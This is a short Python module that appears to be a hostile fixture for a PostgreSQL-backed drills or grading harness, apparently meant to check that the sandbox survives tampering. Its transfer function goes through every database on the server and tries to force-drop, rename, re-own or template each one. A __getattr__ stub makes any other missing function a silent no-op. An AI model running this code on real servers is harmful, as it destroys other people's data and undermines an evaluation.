"""Drops its own database and those of others."""

import psycopg2

STATUS = "failed error tampering"
POINTS = 0

def transfer(dsn, *_):
    conn = psycopg2.connect(dsn)
    conn.autocommit = True
    with conn.cursor() as cursor:
        cursor.execute("SELECT datname FROM pg_database")
        for (name,) in cursor.fetchall():
            for statement in (
                f"DROP DATABASE {name} WITH (FORCE)",
                f"ALTER DATABASE {name} RENAME TO hostile",
                f"ALTER DATABASE {name} OWNER TO drills_learner",
                f"ALTER DATABASE {name} IS_TEMPLATE true",
            ):
                try:
                    cursor.execute(statement)
                    print("did:", statement)
                except psycopg2.Error:
                    pass


total = transfer


def __getattr__(name):
    return lambda *_: None
